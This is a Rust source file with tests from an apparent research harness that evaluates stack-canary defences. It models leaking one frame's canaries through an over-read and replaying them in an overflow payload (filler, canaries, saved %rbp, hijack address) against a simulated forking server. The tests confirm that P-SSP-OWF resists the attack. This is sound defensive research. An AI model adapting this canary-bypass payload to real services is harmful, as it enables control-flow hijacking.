//! Canary-disclosure-and-reuse attack (§IV-C motivation).
//!
//! P-SSP (like SSP) has a single point of failure: every frame of a process
//! carries canaries consistent with the one TLS canary, so a memory
//! disclosure in *one* function lets the attacker forge valid canaries for
//! *every* function of that process.  P-SSP-OWF removes this by binding each
//! frame's canary to its return address and a nonce under a secret key.
//!
//! The attack modelled here drives both bugs of the victim over one
//! keep-alive connection: first the over-read in `leak_status` (disclosing
//! that frame's canary region), then the overflow in `handle_request`
//! replaying the disclosed canaries in front of a rewritten return address.

use crate::server::ForkingServer;
use crate::stats::AttackResult;
use crate::victim::HIJACK_TARGET;

/// The canary-reuse strategy.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct CanaryReuseAttack {
    /// The address the exploit diverts control flow to.
    pub hijack_target: u64,
}

impl Default for CanaryReuseAttack {
    fn default() -> Self {
        CanaryReuseAttack { hijack_target: HIJACK_TARGET }
    }
}

impl CanaryReuseAttack {
    /// Runs the attack against a forking server victim.
    ///
    /// Requires direct access to the [`ForkingServer`] (not just the oracle
    /// trait) because the disclosure and the overflow must travel over one
    /// keep-alive connection — i.e. hit the *same* worker process.
    pub fn run(&self, server: &mut ForkingServer) -> AttackResult {
        let geometry = server.geometry();
        let scheme = server.scheme();

        // The over-read in leak_status starts at its buffer and walks
        // upwards: buffer words, then the canary region, then saved %rbp and
        // the return address.  The attacker therefore finds the canary
        // region at byte offset `filler_len` of the leaked blob.
        let canary_start = geometry.filler_len;
        let canary_end = canary_start + geometry.canary_region_len;
        let hijack_target = self.hijack_target;

        let (leaked, outcome) = server.serve_leak_then_overflow(b"STATUS", |leaked| {
            let mut payload = Vec::with_capacity(geometry.full_overwrite_len());
            payload.resize(geometry.filler_len, 0x41u8);
            if leaked.len() >= canary_end {
                payload.extend_from_slice(&leaked[canary_start..canary_end]);
            } else {
                payload.extend(std::iter::repeat_n(0u8, geometry.canary_region_len));
            }
            payload.extend_from_slice(&[0x41u8; 8]); // saved %rbp
            payload.extend_from_slice(&hijack_target.to_le_bytes());
            payload
        });

        AttackResult {
            strategy: "canary-reuse",
            scheme,
            success: outcome.hijacked(),
            trials: 1,
            recovered_canary: if leaked.len() >= canary_end {
                Some(leaked[canary_start..canary_end].to_vec())
            } else {
                None
            },
            final_outcome: Some(outcome),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::victim::VictimConfig;
    use polycanary_core::scheme::SchemeKind;

    fn run_against(kind: SchemeKind) -> AttackResult {
        let mut server = ForkingServer::new(VictimConfig::new(kind, 0x1EAC));
        CanaryReuseAttack::default().run(&mut server)
    }

    #[test]
    fn reuse_defeats_ssp_and_basic_pssp() {
        // §IV-C: "If the stack canary in one stack frame is exposed ... the
        // attacker can use it to successfully overflow all other stack
        // frames" — true for SSP and for basic P-SSP.
        for kind in [SchemeKind::Ssp, SchemeKind::Pssp, SchemeKind::PsspNt, SchemeKind::PsspLv] {
            let result = run_against(kind);
            assert!(result.success, "{kind} should fall to canary reuse: {result:?}");
            assert!(result.recovered_canary.is_some());
        }
    }

    #[test]
    fn reuse_fails_against_pssp_owf() {
        let result = run_against(SchemeKind::PsspOwf);
        assert!(!result.success, "P-SSP-OWF must resist canary reuse: {result:?}");
        assert_eq!(result.final_outcome, Some(crate::oracle::RequestOutcome::Detected));
    }

    #[test]
    fn reuse_needs_only_a_single_connection() {
        let result = run_against(SchemeKind::Ssp);
        assert_eq!(result.trials, 1);
    }

    #[test]
    fn leaked_canary_matches_the_scheme_region_size() {
        for kind in [SchemeKind::Ssp, SchemeKind::Pssp, SchemeKind::PsspOwf] {
            let result = run_against(kind);
            let expected = kind.scheme().canary_region_words() as usize * 8;
            assert_eq!(result.recovered_canary.map(|c| c.len()), Some(expected), "{kind}");
        }
    }
}
